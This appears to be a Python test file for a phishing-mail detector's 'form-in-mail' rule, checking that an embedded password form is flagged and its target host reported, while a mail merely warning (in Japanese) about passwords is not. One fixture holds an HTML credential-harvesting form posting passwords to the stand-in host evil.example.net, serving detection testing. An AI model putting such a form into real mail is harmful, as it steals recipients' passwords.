"""The mail itself holds a form that sends what is typed."""

from __future__ import annotations

from gyotaku.model import Strength
from gyotaku.testing import findings_of, mail

ID = "form-in-mail"


def test_password_field() -> None:
    """A password field in the mail is strong, and its target is told."""
    raw = mail(html='<form action="https://evil.example.net/p"><input name="p" type="password"></form>')
    (finding,) = findings_of(raw, ID)
    assert (finding.strength, finding.facts["host"]) == (Strength.STRONG, "evil.example.net")


def test_honest_twin_no_form() -> None:
    """A mail that only talks about passwords stays silent."""
    assert findings_of(mail(html="<p>パスワードは誰にも教えないでください。</p>"), ID) == ()
